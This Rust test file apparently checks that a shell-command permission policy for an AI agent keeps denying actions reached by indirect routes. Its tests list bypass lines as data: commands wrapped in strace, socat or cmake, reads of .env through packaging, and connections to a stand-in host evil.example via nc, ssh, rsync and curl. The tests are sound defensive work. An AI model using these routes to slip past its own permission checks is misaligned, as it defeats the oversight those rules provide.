//! What no word says: programs that others start, files that are taken or made, machines that are reached; and lines that
//! only look, and are let be.

use super::*;

fn denied(rule: &str, lines: &[&str]) {
    let policy = policy(&[(Deny, rule)]);
    let auto = |line: &&&str| in_mode(&policy, &shell(line), Mode::Auto).effect;
    let wrong: Vec<_> = lines.iter().filter(|line| auto(line) != Deny).collect();
    assert!(wrong.is_empty(), "not denied by {rule}: {wrong:#?}");
}

/// D2.21: A sub-command that is not listed may run any of its words, and so may the value of an option that runs something.
/// Attack 450.
#[test]
fn given_a_program_behind_an_unlisted_sub_command_or_in_a_value_then_a_denial_of_it_holds() {
    denied(
        "shell(touch *)",
        &[
            "strace -o '|touch x' ls",
            "strace -o'!touch x' ls",
            "gcc -wrapper touch,x a.c",
            "cmake -E env touch x",
            "cmake -E time touch x",
            "socat - exec:'touch x'",
            "socat - SYSTEM:'touch x'",
            "pnpm -c exec 'touch x'",
            "nx exec -- touch x",
            "lerna exec -- touch x",
            "podman unshare touch x",
            "gh codespace ssh -- touch x",
            "ip netns exec n touch x",
        ],
    );
    let policy = policy(&[(Deny, "shell(touch *)")]);
    for line in
        ["gh pr list", "docker compose ps", "nx build app", "cmake --build .", "gcc -c a.c", "git status"]
    {
        assert_ne!(in_mode(&policy, &shell(line), Mode::Auto).effect, Deny, "{line}");
    }
}

/// D2.25: What a program makes or reads without a word for it counts as that access.
/// Attack 451.
#[test]
fn given_files_that_no_word_names_then_a_denial_of_them_holds() {
    denied(
        "write(/w/secret/**)",
        &[
            "cargo new secret",
            "cargo init secret",
            "cd secret; git init",
            "git init secret",
            "wget -x -nH http://h/secret/x",
            "wget -x http://secret/x",
            "wget --mirror http://h/secret/",
        ],
    );
    denied(
        "read(**/.env)",
        &["docker compose config", "docker-compose up", "dotenv run -- env", "deno run --env-file x.ts"],
    );
    let policy = policy(&[(Deny, "write(/w/secret/**)"), (Deny, "read(**/.env)")]);
    for line in
        ["cargo init", "git init", "git commit -m init", "cargo new app", "wget -x http://h/x", "npm init -y"]
    {
        assert_ne!(in_mode(&policy, &shell(line), Mode::Auto).effect, Deny, "{line}");
    }
}

/// D2.25: What a package is made of counts as read, as far as it is there.
/// Attack 451.
#[test]
fn given_a_package_that_would_hold_a_denied_file_then_it_is_denied() {
    let policy = policy(&[(Deny, "read(**/.env)")]);
    let folder = tempfile::tempdir().unwrap();
    let effect = |line: &str| {
        let roots = [folder.path().to_owned()];
        let at = Surroundings { home: Some(Path::new(HOME)), ..Surroundings::new(folder.path(), &roots) };
        let mut call = call(Access::Mode { id: "replaced".into() });
        call.roots = roots.to_vec();
        call.cwd = folder.path().to_owned();
        call.accesses = shell::line_accesses(line, &at);
        in_mode(&policy, &call, Mode::Auto).effect
    };
    let lines = ["npm pack", "npm publish", "pnpm pack", "yarn publish", "cargo package"];
    for line in lines {
        assert_ne!(effect(line), Deny, "{line}, without the file");
    }
    std::fs::write(folder.path().join(".env"), "A=b").unwrap();
    for line in lines {
        assert_eq!(effect(line), Deny, "{line}");
    }
}

/// D2.25: A machine counts in every form in which a program takes one.
/// Attack 452.
#[test]
fn given_a_machine_in_any_form_then_a_denial_of_it_holds() {
    denied(
        "fetch(evil.example)",
        &[
            "rsync a rsync://evil.example/x",
            "rsync a evil.example:x",
            "scp a scp://evil.example/x",
            "scp a me@evil.example:x",
            "git clone evil.example:x",
            "git clone git@evil.example:x",
            "gh pr view https://evil.example/a/b/pull/1",
            "terraform init -from-module=git::https://evil.example/x",
            "http evil.example",
            "xh evil.example",
            "curl --connect-to ::evil.example: http://a",
            "wget -e http_proxy=evil.example http://a",
            "go install evil.example/x@latest",
            "docker pull evil.example/x",
            "nc evil.example 80",
            "ssh evil.example",
            "ssh me@evil.example ls",
            "kubectl --server=evil.example get pods",
            "psql -h evil.example -c x",
            "dig evil.example",
        ],
    );
    let policy = policy(&[(Deny, "fetch(evil.example)")]);
    for line in
        ["git log --grep evil.example", "git clone docs.example:x", "rg evil.example", "docker pull alpine"]
    {
        assert_ne!(in_mode(&policy, &shell(line), Mode::Auto).effect, Deny, "{line}");
    }
}

/// D2.30: A format that has signatures checked runs another program.
/// Attacks 453 and 584.
#[test]
fn given_a_format_with_signatures_then_the_line_is_no_reader() {
    let none = policy(&[]);
    for line in [
        "git log --format=%G?",
        "git log --form=%G?",
        "git log -1 --format='%+G?'",
        "git log -1 --format='%h %-GK'",
        "git log -1 --format='% G?'",
        "git log -1 --format='%<(9)%+ -GG'",
        "git show -s --pretty='format:%x41%+GS'",
        "git log --pretty=format:%GG",
        "git for-each-ref --format='%(signature)'",
        "git branch --format='%(signature:grade)'",
        "git stash list --format=%G?",
        "git shortlog --group=format:%GS HEAD",
    ] {
        assert_ne!(in_mode(&none, &shell(line), Mode::Plan).effect, Allow, "{line}");
    }
}

/// D2.30: A version manager's file that names a folder says which program starts, also where it is only asked for its version.
/// Attack 454.
#[test]
fn given_a_version_manager_told_of_a_folder_then_a_version_is_not_read() {
    let folder = tempfile::tempdir().unwrap();
    let none = policy(&[]);
    let effect = || {
        let roots = [folder.path().to_owned()];
        let at = Surroundings { home: Some(Path::new(HOME)), ..Surroundings::new(folder.path(), &roots) };
        let mut call = call(Access::Mode { id: "replaced".into() });
        call.roots = roots.to_vec();
        call.cwd = folder.path().to_owned();
        call.accesses = shell::line_accesses("node --version", &at);
        in_mode(&none, &call, Mode::Plan).effect
    };
    assert_eq!(effect(), Allow);
    std::fs::write(folder.path().join(".tool-versions"), "nodejs 22.1.0\n").unwrap();
    assert_eq!(effect(), Allow);
    std::fs::write(folder.path().join(".tool-versions"), "nodejs path:./evil\n").unwrap();
    assert_ne!(effect(), Allow);
}

/// D2.28: What only looks is a reader; a key is no directive.
#[test]
fn given_lines_that_only_look_then_they_are_readers() {
    let none = policy(&[]);
    let plan = |line: &str| in_mode(&none, &shell(line), Mode::Plan).effect;
    let wrong = |lines: &[&'static str], expected| -> Vec<_> {
        lines.iter().copied().filter(|line| (plan(line) == Allow) != expected).collect()
    };
    let quiet = [
        "jq '.compilerOptions.include' tsconfig.json",
        "jq '.include' tsconfig.json",
        "jq '.imports' package.json",
        "jq -r '.[] | .import_path' a.json",
        "jq '.env' package.json",
        "yq '.services.web.environment' docker-compose.yml",
        "gunzip -c a.gz | head",
        "gzip -dc a.gz",
        "xz -dc a.xz",
        "openssl version",
        "openssl x509 -in a.pem -noout -text",
        "ssh -V",
        "sqlite3 --version",
        "help cd",
        "stty size",
        "top -bn1 | head",
    ];
    assert_eq!(wrong(&quiet, true), [""; 0]);
    let loud = [
        "jq 'include \"x\"; .' a.json",
        "jq 'import \"x\" as y; .' a.json",
        "jq 'env' a.json",
        "jq '$ENV.PATH' a.json",
        "gunzip a.gz",
        "gzip -c a -o b",
        "zstd --rm -c a",
        "openssl x509 -in a.pem -noout -out b",
        "openssl x509 -in a.pem",
        "ssh -V host",
        "stty size sane",
        "top",
    ];
    assert_eq!(wrong(&loud, false), [""; 0]);
    let logs = policy(&[(Allow, "shell(docker compose logs *)")]);
    assert_eq!(effect(&logs, &shell("docker compose logs -f --tail=50")), Allow);
}
